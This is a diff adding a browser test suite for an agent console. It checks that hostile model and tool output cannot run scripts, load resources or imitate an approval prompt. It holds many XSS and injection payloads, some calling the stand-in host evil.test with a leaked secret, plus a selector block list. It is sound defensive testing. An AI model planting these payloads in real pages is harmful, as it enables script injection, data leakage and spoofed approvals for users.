@@ -1,0 +1,169 @@
+import { afterAll, afterEach, beforeAll, expect, it } from '@jest/globals';
+import { startMcpUpstream, type McpUpstream } from '../../src/testing/mcp-upstream.js';
+import { connect, createAgent, ThreadClient } from '../support/agent-runs.js';
+import { hasChromium, inBrowser } from '../support/chromium.js';
+import { ConsoleFixture, type ConsolePage } from './console-fixture.js';
+
+const TIMEOUT_MS = 120_000;
+/** Each of these sets `window.ran`, or sends a request, wherever it is taken for more than text. */
+const HOSTILE = [
+  '<script>window.ran = 1</script>',
+  '<img src="https://evil.test/a.png" onerror="window.ran = 1">',
+  '<img src=x onerror=window.ran=1>',
+  '<picture><source srcset="https://evil.test/b.png"><img src="/api/default/tools"></picture>',
+  '![leak](https://evil.test/c.png?secret=1) ![own](/health/live) ![data](data:image/svg+xml,<svg onload="window.ran=1">)',
+  '[click](javascript:window.ran=1) <a href="javascript:window.ran=1">click</a> [d](data:text/html,<script>window.ran=1</script>)',
+  '[v](vbscript:x) <a href="  java&#x0A;script:window.ran=1">odd</a> [b](blob:https://evil.test/1)',
+  '</style><style>body{background:url(https://evil.test/d.png)}</style>',
+  '<div style="background:url(https://evil.test/e.png)">styled</div>',
+  '<iframe src="https://evil.test/f"></iframe><object data="https://evil.test/g"></object><embed src="https://evil.test/h">',
+  '<svg onload="window.ran=1"><use href="https://evil.test/i#x"/></svg><math><mtext></mtext></math>',
+  '<form action="https://evil.test/j"><input name=a autofocus onfocus="window.ran=1"><button>Approve</button></form>',
+  '<meta http-equiv="refresh" content="0;url=https://evil.test/k"><base href="https://evil.test/">',
+  '<link rel="stylesheet" href="https://evil.test/l.css"><video src="https://evil.test/m" autoplay onloadstart="window.ran=1"></video>',
+  '<details open ontoggle="window.ran=1"><summary>s</summary>t</details>',
+  '\u202Egnp.exe\u202C \u2066hidden\u2069 \u0000 \uFEFF \u{E0041}',
+  '```html\n<script>window.ran = 1</script>\n```',
+  '```mermaid\ngraph TD; A[<img src=x onerror=window.ran=1>] --> B\n```',
+  '$$\\href{javascript:window.ran=1}{x}$$',
+  '<!-- --><textarea></textarea><title></title><noscript><p title="</noscript><img src=x onerror=window.ran=1>">',
+  `| ${'wide | '.repeat(60)}\n|${'---|'.repeat(60)}\n${`| ${'<b onclick="window.ran=1">cell</b> | '.repeat(60)}\n`.repeat(200)}`,
+].join('\n\n');
+
+let fixture: ConsoleFixture;
+let upstream: McpUpstream;
+let opened: ConsolePage;
+/** The tool's output is in the tool call, and in the text of the model that reports it. */
+let thread: ThreadClient;
+let taskId: string;
+/** Asks for an approval with hostile arguments. */
+let waiting: ThreadClient;
+
+beforeAll(async () => {
+  if (!hasChromium) return;
+  fixture = await ConsoleFixture.start();
+  upstream = await startMcpUpstream({
+    say: { handler: () => HOSTILE },
+    draw: {
+      handler: () => ({
+        content: [
+          { type: 'image', data: 'aGVsbG8="><script>window.ran=1</script>', mimeType: 'image/png' },
+          { type: 'image', data: 'PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+', mimeType: 'image/svg+xml' },
+          { type: 'resource_link', uri: 'javascript:window.ran=1', name: '<img src=x onerror=window.ran=1>' },
+        ],
+        structuredContent: { html: '<script>window.ran = 1</script>', __proto__: { polluted: true } },
+      }),
+    },
+    fail: {
+      handler: () => {
+        throw new Error('<img src=x onerror=window.ran=1> </style> javascript:window.ran=1');
+      },
+    },
+  });
+  const connectionId = await connect(fixture.service, upstream.url, '<img src=x onerror=window.ran=1>');
+  const agentId = await createAgent(fixture.service, [connectionId], { title: '<script>window.ran=1</script>' });
+  thread = await ThreadClient.create(fixture.service, agentId);
+  ({ taskId } = await thread.ask('<img src=x onerror=window.ran=1>\n/call say {}\n/call draw {}\n/call fail {}'));
+  const connections = [{ connection_id: connectionId, selected_tools: null, approval: 'all' }];
+  waiting = await ThreadClient.create(fixture.service, await createAgent(fixture.service, [], { connections }));
+  const run = await waiting.postMessage(`/call say ${JSON.stringify({ html: HOSTILE.slice(0, 2000) })}`);
+  await waiting.waitFor(run, 'waiting');
+}, TIMEOUT_MS);
+afterEach(() => opened?.close());
+afterAll(async () => {
+  await fixture?.close();
+  await upstream?.close();
+});
+
+/** What must not be in the page below the content, whatever a model or a tool says. */
+const DANGEROUS = [
+  'script',
+  'style',
+  'iframe',
+  'object',
+  'embed',
+  'link',
+  'meta',
+  'base',
+  'form:not(:has(textarea))',
+  'video',
+  'audio',
+  'source',
+  'img',
+  'svg use',
+  '[onerror]',
+  '[onload]',
+  '[onclick]',
+  '[style*="url("]',
+  'a[href^="javascript" i]',
+  'a[href^="data" i]',
+  'a[href^="blob" i]',
+  'a[href^="vbscript" i]',
+]
+  .map((selector) => `main ${selector}`)
+  .join(',');
+
+/** Opens a view, counts what it asks for, and checks that nothing of the output ran or loaded. */
+async function expectHarmless(view: string, isShown: (page: ConsolePage['page']) => Promise<void>): Promise<void> {
+  opened = await fixture.open(view);
+  const { page } = opened;
+  const asked: string[] = [];
+  page.on('request', (request) => {
+    if (!['fetch', 'script', 'stylesheet', 'document'].includes(request.resourceType())) asked.push(request.url());
+  });
+  page.on('dialog', (dialog) => {
+    asked.push(`dialog ${dialog.message()}`);
+    void dialog.dismiss();
+  });
+  await page.reload();
+  await isShown(page);
+  for (const summary of await page.locator('main summary').all()) await summary.click();
+  await page.evaluate('new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve, 100)))');
+  expect(await page.evaluate('window.ran')).toBeUndefined();
+  expect(await page.locator(DANGEROUS).evaluateAll((found) => found.map(({ outerHTML }) => outerHTML))).toEqual([]);
+  const hrefs = await page.locator('main a').evaluateAll((links) => links.map((link) => link.getAttribute('href')));
+  for (const href of hrefs) expect(href).toMatch(/^(?:\/console\/|https?:\/\/|mailto:)/);
+  const icons = asked.filter(
+    (url) => !url.endsWith('/console/icon.svg') && !url.startsWith(fixture.address('').split('/default')[0] ?? ''),
+  );
+  expect(icons).toEqual([]);
+  expect(new URL(page.url()).origin).toBe(fixture.service.url);
+  // Violations of the policy are errors of the console.
+  expect(opened.problems).toEqual([]);
+  await opened.expectToFit(360);
+}
+
+inBrowser('hostile output of models and tools', () => {
+  it('runs and loads nothing in the playground', () =>
+    expectHarmless(`playground/${thread.id}`, async (page) => {
+      await page.getByRole('table').first().waitFor();
+      await page.getByText('fail failed:').waitFor();
+    }));
+
+  it('runs and loads nothing in a thread', () =>
+    expectHarmless(`threads/${thread.id}`, (page) => page.getByText('fail failed:').waitFor()));
+
+  it('runs and loads nothing in a run', () =>
+    expectHarmless(`runs/${taskId}`, (page) => page.getByText('fail failed:').waitFor()));
+
+  it('runs and loads nothing while it streams', async () => {
+    opened = await fixture.open(`playground/${thread.id}`);
+    const { page } = opened;
+    // Requests cannot hold NUL; the table is too long for a person to write.
+    const text = HOSTILE.slice(0, HOSTILE.indexOf('| wide')).replaceAll('\0', '');
+    await page.getByText('fail failed:').waitFor();
+    await page.getByLabel('Message', { exact: true }).fill(`${text}\n\n/words 200`);
+    await page.getByRole('button', { name: 'Send' }).click();
+    await page.getByRole('list', { name: 'Conversation' }).getByText('word200').waitFor();
+    expect(await page.evaluate('window.ran')).toBeUndefined();
+    expect(await page.locator(DANGEROUS).count()).toBe(0);
+    expect(opened.problems).toEqual([]);
+  });
+
+  it('cannot imitate the question for an approval', async () => {
+    await expectHarmless(`playground/${waiting.id}`, (page) =>
+      page.getByText('May the agent make this call?').waitFor(),
+    );
+    expect(await opened.page.getByRole('button', { name: 'Approve' }).count()).toBe(1);
+  });
+});
